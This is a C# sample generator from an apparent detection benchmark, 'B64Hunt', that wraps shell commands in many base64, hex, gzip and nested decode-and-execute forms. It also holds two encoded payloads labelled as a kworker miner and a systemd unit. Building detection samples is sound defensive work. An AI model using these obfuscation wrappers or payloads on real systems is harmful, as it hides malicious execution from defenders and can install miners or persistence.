using System;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;
using System.Text;

namespace B64Hunt.Benchmarks.SampleGenerator
{
    /// <summary>Turns a decoded command into the argv an attacker or an admin script would exec to run it.</summary>
    public static class PayloadEncoder
    {
        public static EncodedPayload Encode(SamplePayload p)
        {
            string b64 = Base64(p.Command);
            string sh = p.Shell;
            switch (p.Form)
            {
                case EncodingForm.EchoPipe:
                    return Shell(sh, "echo " + b64 + " | base64 -d | " + Last(sh), b64);
                case EncodingForm.EchoNDecode:
                    return Shell(sh, "echo -n " + b64 + "|base64 --decode|sh", b64);
                case EncodingForm.EchoEDecodeIgnore:
                    return Shell(sh, "echo -e " + b64 + " | base64 -di | bash", b64);
                case EncodingForm.PrintfCapitalD:
                    return Shell(sh, "printf " + b64 + " | base64 -D | sh", b64);
                case EncodingForm.BraceExpansion:
                    return Shell("bash", "{echo," + b64 + "}|{base64,-d}|{bash,-i}", b64);
                case EncodingForm.HereString:
                    return Shell("bash", "base64 -d <<< " + b64 + " | sh", b64);
                case EncodingForm.CommandSubstitution:
                    return Shell("bash", "sh -c \"$(echo " + b64 + " | base64 -d)\"", b64);
                case EncodingForm.Backticks:
                    return Shell("sh", "`echo " + b64 + " | base64 -d`", b64);
                case EncodingForm.OpensslEnc:
                    return Shell(sh, "echo " + b64 + " | openssl enc -d -base64 -A | bash", b64);
                case EncodingForm.Python:
                    return Make(new[] { "python3", "-c", "import base64,os;os.system(base64.b64decode('" + b64 + "'))" }, b64);
                case EncodingForm.Perl:
                    return Make(new[] { "perl", "-MMIME::Base64", "-e", "system(decode_base64(\"" + b64 + "\"))" }, b64);
                case EncodingForm.UrlSafe:
                {
                    if (b64.IndexOf('+') < 0 && b64.IndexOf('/') < 0)
                        throw new InvalidOperationException(p.Id + ": the url-safe form needs a payload whose standard base64 has '+' or '/'.");
                    string url = b64.TrimEnd('=').Replace('+', '-').Replace('/', '_');
                    return Shell(sh, "echo " + url + " | basenc --base64url -d | sh", url);
                }
                case EncodingForm.MissingPadding:
                {
                    if (!b64.EndsWith("="))
                        throw new InvalidOperationException(p.Id + ": the missing-padding form needs a command whose length is not a multiple of 3.");
                    string bare = b64.TrimEnd('=');
                    return Shell(sh, "echo " + bare + " | base64 -d 2>/dev/null | bash", bare);
                }
                case EncodingForm.Gzip:
                {
                    string gz = GzipPayloads.For(p.Command);
                    return Shell(sh, "echo " + gz + " | base64 -d | gunzip | sh", gz, "base64", "gzip");
                }
                case EncodingForm.Hex:
                {
                    string hex = Hex(p.Command);
                    return Shell(sh, "echo " + hex + " | xxd -r -p | sh", hex, "hex");
                }
                case EncodingForm.Nested:
                {
                    string middle = "echo " + b64 + "|base64 -d|sh";
                    string outer = Base64(middle);
                    var argv = new[] { sh, "-c", "echo " + outer + " | base64 -d | bash" };
                    return new EncodedPayload(argv, outer, new[] { "base64", "base64" }, middle);
                }
                case EncodingForm.Busybox:
                    return Shell(sh, "echo " + b64 + " | busybox base64 -d | sh", b64);
                case EncodingForm.SplitQuotes:
                {
                    int cut = (b64.Length / 2) & ~3;
                    return Shell("bash", "echo '" + b64.Substring(0, cut) + "''" + b64.Substring(cut) + "' | base64 -d | bash", b64);
                }
                case EncodingForm.DecodeToFile:
                {
                    const string file = "/var/lib/cloud/instance/scripts/part-001";
                    return Shell(sh, "echo " + b64 + " | base64 -d > " + file + " && chmod +x " + file + " && " + file, b64);
                }
                default:
                    throw new ArgumentOutOfRangeException(nameof(p), p.Form, "Unknown encoding form.");
            }
        }

        public static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

        public static string Hex(string text)
        {
            var sb = new StringBuilder(text.Length * 2);
            foreach (byte b in Encoding.UTF8.GetBytes(text)) sb.Append(b.ToString("x2"));
            return sb.ToString();
        }

        /// <summary>gzip then base64, as `gzip -c | base64 -w0` makes it. Only for authoring <see cref="GzipPayloads"/>: the
        /// sample uses the committed constants, because another zlib build could compress the same text differently.</summary>
        public static string GzipBase64(string text)
        {
            using var buffer = new MemoryStream();
            using (var gzip = new GZipStream(buffer, CompressionLevel.Optimal, leaveOpen: true))
            {
                byte[] bytes = Encoding.UTF8.GetBytes(text);
                gzip.Write(bytes, 0, bytes.Length);
            }
            return Convert.ToBase64String(buffer.ToArray());
        }

        private static string Last(string shell) => shell.Substring(shell.LastIndexOf('/') + 1);

        private static EncodedPayload Shell(string shell, string script, string encoded, params string[] chain) =>
            Make(new[] { shell, "-c", script }, encoded, chain);

        private static EncodedPayload Make(string[] argv, string encoded, params string[] chain) =>
            new EncodedPayload(argv, encoded, chain.Length == 0 ? new[] { "base64" } : chain, null);
    }

    /// <summary>
    /// The gzip payloads of the sample, computed once with <see cref="PayloadEncoder.GzipBase64"/>
    /// (`dotnet run --project tests/B64Hunt.Benchmarks -- gzip-payload "command"`) and kept as text so the sample
    /// stays byte-identical on any runtime. The generator checks each one still decompresses to its command.
    /// </summary>
    public static class GzipPayloads
    {
        private static readonly Dictionary<string, string> ByCommand = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            [PayloadCatalog.KworkerMiner] =
                "H4sIAAAAAAAAA23NzU7CQBRA4Ve5KzfmdkLb6Q/EhUSUCCKiQWA3doYW2mmn0zu0vr0xcWGi+5Pv9LkiwBbwGdhFWEbaMK/sG1sqCwWRGTOWyRqdkYKUpwahTaW8WhGTFfsJJ5AVupEQc/5XmfwDYwMdWUFOX1P2vTBNU3n6VKtB29+TMeecAzoIb9Nu0cb1njaBfr/s/I9ltk7k4Tjn51WUv43cLLSv6edLv43Lp2CY+tldcnzgxeOoXkZmE9I+7Q+BmMXdwtdb3u4SNx3J+yifB+eVACwBkaoOEDPjUIsBqbBKyA6LU003MYerLz2dCwYsAQAA",
            [PayloadCatalog.SystemdUnit] =
                "H4sIAAAAAAAAA1WOsW7DMAxEf4VTMin6AhdokA5dawQdIg+MRBdCZcog6br++yJxkDTTAXfkuxsls/WwPR05Wxf4QBolj5YrN+2iRgMcx4RG0JL85EiBX3sjaZhsrvK9M5QvssCBT7eLLvDbL8XWUKzxk4ovNWLx58xeF51WnIvgyeLD2cXKfeAP0usjlhkXvXLfWQ1L6QJ/Ihul/dIMU7HsJiW5D9jCy51oNKSb/ivQdR9sNrBm0QokpKGyEyoV03NEjOdC4BzX+WI/Y/4AnadzAToBAAA=",
        };

        public static string For(string command)
        {
            if (!ByCommand.TryGetValue(command, out var value))
                throw new InvalidOperationException("No committed gzip payload for: " + command + "\nAuthor one with: gzip-payload \"<command>\" → " + PayloadEncoder.GzipBase64(command));
            using var input = new GZipStream(new MemoryStream(Convert.FromBase64String(value)), CompressionMode.Decompress);
            using var reader = new StreamReader(input, new UTF8Encoding(false));
            if (reader.ReadToEnd() != command)
                throw new InvalidOperationException("The committed gzip payload does not decompress to: " + command);
            return value;
        }
    }
}
